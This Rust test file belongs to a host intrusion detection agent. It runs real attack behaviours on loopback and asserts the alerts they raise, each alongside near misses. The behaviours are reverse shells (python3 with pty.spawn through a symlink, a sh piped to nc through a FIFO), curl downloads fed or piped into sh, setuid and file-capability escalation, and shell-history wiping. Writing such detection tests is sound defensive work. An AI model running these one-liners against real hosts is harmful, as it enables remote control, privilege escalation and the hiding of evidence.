//! Privileged end-to-end tests of detections an attacker cannot sidestep
//! by changing one detail (issue 18): an interpreter run through a
//! symlink, scripts run by an interpreter or piped from a downloader, and
//! permission and attribute tampering; each with its near misses. Every
//! test matches only its own processes (by pid or a unique path).

mod common;

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::process::Command;
use std::time::Duration;

use common::scenario::{Attacker, CONFIG, Cleanup, alerts};
use common::{Agent, get, pid_of, privileged, sh, unique};
use serde_json::Value;

fn message(a: &Value) -> &str {
    get(a, "message").as_str().unwrap()
}

#[test]
fn python_through_a_symlink_is_still_a_reverse_shell() {
    if !privileged("python_through_a_symlink_is_still_a_reverse_shell") {
        return;
    }
    let link = format!("/run/lock/{}", unique("p"));
    let _guard = Cleanup(vec![link.clone()]);
    symlink("/usr/bin/python3", &link).unwrap();
    let attacker = Attacker::new();
    let port = attacker.port;
    let agent = Agent::start(CONFIG);
    let marker = unique("symshell");
    let script = format!(
        "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{port}));\
         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
    );
    let mut c = Command::new(&link).args(["-c", &script]).spawn().unwrap();
    let pid = c.id();
    assert!(attacker.drive(&marker).contains(&marker));
    c.wait().unwrap();
    agent.wait_for("the symlinked python's alert", |r| {
        r["record_type"] == "alert"
            && get(r, "rule.id") == "rg-reverse-shell"
            && pid_of(r) == u64::from(pid)
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let mine: Vec<&Value> = alerts(&records, "rg-reverse-shell")
        .into_iter()
        .filter(|a| pid_of(a) == u64::from(pid))
        .collect();
    assert_eq!(mine.len(), 1, "{mine:#?}");
    assert_eq!(get(mine[0], "event.severity"), 99);
    let name = link.rsplit('/').next().unwrap();
    assert_eq!(
        message(mine[0]),
        format!(
            "{name} (pid {pid}) has fds 0, 1 on a socket to 127.0.0.1:{port} (dup2 gave it): \
             an interactive shell over the network"
        )
    );
    assert_eq!(get(mine[0], "process.executable"), link.as_str());
}

/// Serve `body` over HTTP on loopback to `n` clients; the port.
fn serve(body: &'static str, n: usize) -> (u16, std::thread::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let t = std::thread::spawn(move || {
        for _ in 0..n {
            let (mut s, _) = listener.accept().unwrap();
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(
                format!(
                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        }
    });
    (port, t)
}

#[test]
fn scripts_run_by_an_interpreter_or_piped_from_a_download() {
    if !privileged("scripts_run_by_an_interpreter_or_piped_from_a_download") {
        return;
    }
    let script = format!("/tmp/{}.sh", unique("dl"));
    let fed = format!("/tmp/{}.sh", unique("fed"));
    let old = format!("/tmp/{}.sh", unique("old"));
    let home = format!("/home/{}", unique("dev"));
    let _guard = Cleanup(vec![script.clone(), fed.clone(), old.clone(), home.clone()]);
    fs::create_dir_all(&home).unwrap();
    // Written before the agent: no drop it knows.
    fs::write(&old, "true\n").unwrap();
    let (port, server) = serve("true\n", 3);
    let agent = Agent::start(CONFIG);
    // Downloaded into /tmp, then `sh file`: critical.
    let dl = sh(&format!(
        "curl -s -o {script} http://127.0.0.1:{port}/ && sh {script}"
    ));
    // `curl | sh`: high, the shell's sibling downloads.
    let piped = sh(&format!("curl -s http://127.0.0.1:{port}/ | sh"));
    // Downloaded, then fed to a shell as its standard input: critical.
    let stdin = sh(&format!(
        "curl -s -o {fed} http://127.0.0.1:{port}/ && sh < {fed}"
    ));
    // Near miss: a script that was no recent drop, fed the same way.
    let old_fed = sh(&format!("sh < {old}"));
    // Another interpreter fed a fresh drop: high (written here, not
    // downloaded, in /tmp).
    let py = format!("/tmp/{}.py", unique("fed"));
    let _py_guard = Cleanup(vec![py.clone()]);
    let py_fed = sh(&format!(
        "printf 'pass\\n' > {py} && /usr/bin/python3 < {py}"
    ));
    server.join().unwrap();
    // Near misses: a user's own script written and run in the same
    // session is low; something else piped into a shell is quiet.
    let own = sh(&format!(
        "cd {home} && printf 'true\\n' > my.sh && bash my.sh"
    ));
    let echo = sh("echo true | sh");
    agent.wait_for("the user's own script", |r| {
        r["record_type"] == "alert"
            && get(r, "rule.id") == "rg-drop-exec"
            && get(r, "process.parent.pid") == own
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let drops = alerts(&records, "rg-drop-exec");
    let of = |parent: u32| -> Vec<&&Value> {
        drops
            .iter()
            .filter(|a| get(a, "process.parent.pid") == parent)
            .collect()
    };
    let a = of(dl);
    assert_eq!(a.len(), 1, "{drops:#?}");
    assert_eq!(get(a[0], "event.severity"), 99);
    assert_eq!(
        message(a[0]),
        format!(
            "{script} written by /usr/bin/curl then run by /usr/bin/dash, pid {} (the writer downloads, in a temporary directory)",
            pid_of(a[0])
        )
    );
    let a = of(stdin);
    assert_eq!(a.len(), 1, "{drops:#?}");
    assert_eq!(get(a[0], "event.severity"), 99);
    assert_eq!(
        message(a[0]),
        format!(
            "{fed} written by /usr/bin/curl then run by /usr/bin/dash (as its standard input), pid {} (the writer downloads, in a temporary directory)",
            pid_of(a[0])
        )
    );
    assert!(of(old_fed).is_empty(), "{drops:#?}");
    let a = of(py_fed);
    assert_eq!(a.len(), 1, "{drops:#?}");
    assert!(
        message(a[0]).starts_with(&format!("{py} written by ")),
        "{}",
        message(a[0])
    );
    assert!(
        message(a[0]).contains(" (as its standard input), pid "),
        "{}",
        message(a[0])
    );
    let a = of(piped);
    assert_eq!(a.len(), 1, "{drops:#?}");
    assert_eq!(get(a[0], "event.severity"), 73);
    assert!(
        message(a[0]).ends_with("by the same parent: a download piped into a shell"),
        "{}",
        message(a[0])
    );
    let ev = get(a[0], "rand_guard.alert.evidence").as_array().unwrap();
    // The download and the shell, whichever exec came first.
    // (The inner sh is found on PATH: /usr/bin/sh or /bin/sh.)
    let mut exes: Vec<&str> = ev
        .iter()
        .map(|e| get(e, "process.executable").as_str().unwrap())
        .map(|e| e.strip_prefix("/usr").unwrap_or(e))
        .collect();
    exes.sort();
    assert_eq!(exes, ["/bin/curl", "/bin/sh"]);
    let a = of(own);
    assert_eq!(a.len(), 1, "{drops:#?}");
    assert_eq!(get(a[0], "event.severity"), 21, "{:#}", a[0]);
    assert!(of(echo).is_empty(), "{drops:#?}");
}

#[test]
fn permission_and_attribute_tampering() {
    if !privileged("permission_and_attribute_tampering") {
        return;
    }
    let suid = format!("/tmp/{}", unique("suid"));
    let plain = format!("/tmp/{}", unique("plain"));
    let sys = format!("/usr/local/bin/{}", unique("ww"));
    let log = format!("/tmp/{}.log", unique("shred"));
    let home = format!("/home/{}", unique("hist"));
    let hist = format!("{home}/.bash_history");
    let _guard = Cleanup(vec![
        suid.clone(),
        plain.clone(),
        sys.clone(),
        log.clone(),
        home.clone(),
    ]);
    fs::create_dir_all(&home).unwrap();
    let agent = Agent::start(CONFIG);
    let setuid = sh(&format!("cp /bin/true {suid} && chmod u+s {suid}"));
    let chmod755 = sh(&format!("cp /bin/true {plain} && chmod 755 {plain}"));
    let world = sh(&format!("touch {sys} && chmod 666 {sys}"));
    // tmpfs may refuse the flag: the run is what is detected.
    let chattr = sh(&format!("chattr -i {plain} 2>/dev/null; true"));
    let chattr_set = sh(&format!(
        "chattr +i {plain} 2>/dev/null; chattr -V {plain} 2>/dev/null; true"
    ));
    let setcap = sh(&format!(
        "setcap cap_setuid+ep {suid} && setcap -r {suid} && setcap cap_net_raw+p {suid}"
    ));
    // The same write without setcap: Python's os.setxattr of a revision-2
    // value giving cap_sys_admin (bit 21), effective.
    let pyset = sh(&format!(
        "python3 -c \"import os; os.setxattr('{suid}', 'security.capability', \
         bytes.fromhex('01000002' '00002000' '00000000' '00000000' '00000000'))\" \
         && python3 -c \"import os; os.setxattr('{suid}', 'user.note', b'x')\""
    ));
    let shred = sh(&format!("echo x > {log} && shred -u {log}"));
    let history = sh(&format!("echo ls >> {hist} && : > {hist} && rm {hist}"));
    agent.wait_for("the history deletion", |r| {
        r["record_type"] == "alert"
            && get(r, "rule.id") == "rg-log-wipe"
            && message(r).contains("deleted")
            && message(r).contains(&hist)
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let by = |rule: &str, parent: u32| -> Vec<(u64, String)> {
        alerts(&records, rule)
            .into_iter()
            .filter(|a| get(a, "process.parent.pid") == parent || pid_of(a) == u64::from(parent))
            .map(|a| {
                (
                    get(a, "event.severity").as_u64().unwrap(),
                    message(a).to_string(),
                )
            })
            .collect()
    };
    assert_eq!(
        by("rg-perm-setuid", setuid),
        [(
            73,
            format!("setuid bit set on {suid} (mode 4755) by /usr/bin/chmod")
        )]
    );
    assert!(by("rg-perm-setuid", chmod755).is_empty());
    assert!(by("rg-perm-world-writable", chmod755).is_empty());
    assert_eq!(
        by("rg-perm-world-writable", world),
        [(
            47,
            format!("{sys} made world-writable (mode 666) by /usr/bin/chmod")
        )]
    );
    let c = by("rg-perm-immutable-cleared", chattr);
    assert_eq!(c.len(), 1, "{c:?}");
    assert!(c[0].1.ends_with(&format!(": -i {plain}")), "{c:?}");
    assert!(by("rg-perm-immutable-cleared", chattr_set).is_empty());
    // The sets alert, high for a root capability; the removal does not.
    assert_eq!(
        by("rg-perm-file-capability", setcap),
        [
            (
                73,
                format!("file capabilities cap_setuid=ep set on {suid} by /usr/sbin/setcap")
            ),
            (
                47,
                format!("file capabilities cap_net_raw=p set on {suid} by /usr/sbin/setcap")
            ),
        ]
    );
    // Any program's write is the same finding; another attribute is not.
    let py = by("rg-perm-file-capability", pyset);
    assert_eq!(py.len(), 1, "{py:?}");
    assert_eq!(py[0].0, 73);
    assert!(
        py[0].1.starts_with(&format!(
            "file capabilities cap_sys_admin=ep set on {suid} by /"
        )),
        "{py:?}"
    );
    let s = by("rg-log-wipe", shred);
    assert_eq!(s.len(), 1, "{s:?}");
    assert_eq!(s[0].0, 47);
    assert_eq!(
        by("rg-log-wipe", history)
            .into_iter()
            .map(|(sev, m)| (sev, m.split(" by ").next().unwrap().to_string()))
            .collect::<Vec<_>>(),
        [
            (73, format!("{hist} truncated (opened with O_TRUNC)")),
            (73, format!("{hist} deleted")),
        ]
    );
}

#[test]
fn a_shell_wired_to_nc_through_a_fifo_is_a_reverse_shell() {
    if !privileged("a_shell_wired_to_nc_through_a_fifo_is_a_reverse_shell") {
        return;
    }
    let fifo = format!("/tmp/{}", unique("fifo"));
    let _guard = Cleanup(vec![fifo.clone()]);
    let attacker = Attacker::new();
    let quiet = Attacker::new();
    let port = quiet.port;
    let agent = Agent::start(CONFIG);
    let marker = unique("relay");
    let line = format!(
        "rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc -q 0 127.0.0.1 {} > {fifo}",
        attacker.port
    );
    let mut c = Command::new("/bin/sh").args(["-c", &line]).spawn().unwrap();
    let relay = c.id();
    assert!(attacker.drive(&marker).contains(&marker));
    c.wait().unwrap();
    // Near miss: a command's output sent with nc.
    let send = std::thread::spawn(move || {
        let (mut conn, _) = quiet.listener.accept().unwrap();
        let mut out = String::new();
        let _ = conn.read_to_string(&mut out);
        out
    });
    let plain = sh(&format!("echo {marker} | nc -q 0 127.0.0.1 {}", port));
    assert!(send.join().unwrap().contains(&marker));
    agent.wait_for("the relay's alert", |r| {
        r["record_type"] == "alert"
            && get(r, "rule.id") == "rg-reverse-shell"
            && get(r, "process.parent.pid") == relay
    });
    std::thread::sleep(Duration::from_millis(200));
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let of = |parent: u32| -> Vec<&Value> {
        alerts(&records, "rg-reverse-shell")
            .into_iter()
            .filter(|a| get(a, "process.parent.pid") == parent)
            .collect()
    };
    let mine = of(relay);
    assert_eq!(mine.len(), 1, "{mine:#?}");
    assert_eq!(get(mine[0], "event.severity"), 73);
    assert!(
        message(mine[0]).ends_with(&format!(
            "network relay /usr/bin/nc started by pid {relay} within 2 s of each \
             other: one pipeline"
        )),
        "{}",
        message(mine[0])
    );
    assert!(of(plain).is_empty(), "{:#?}", of(plain));
}
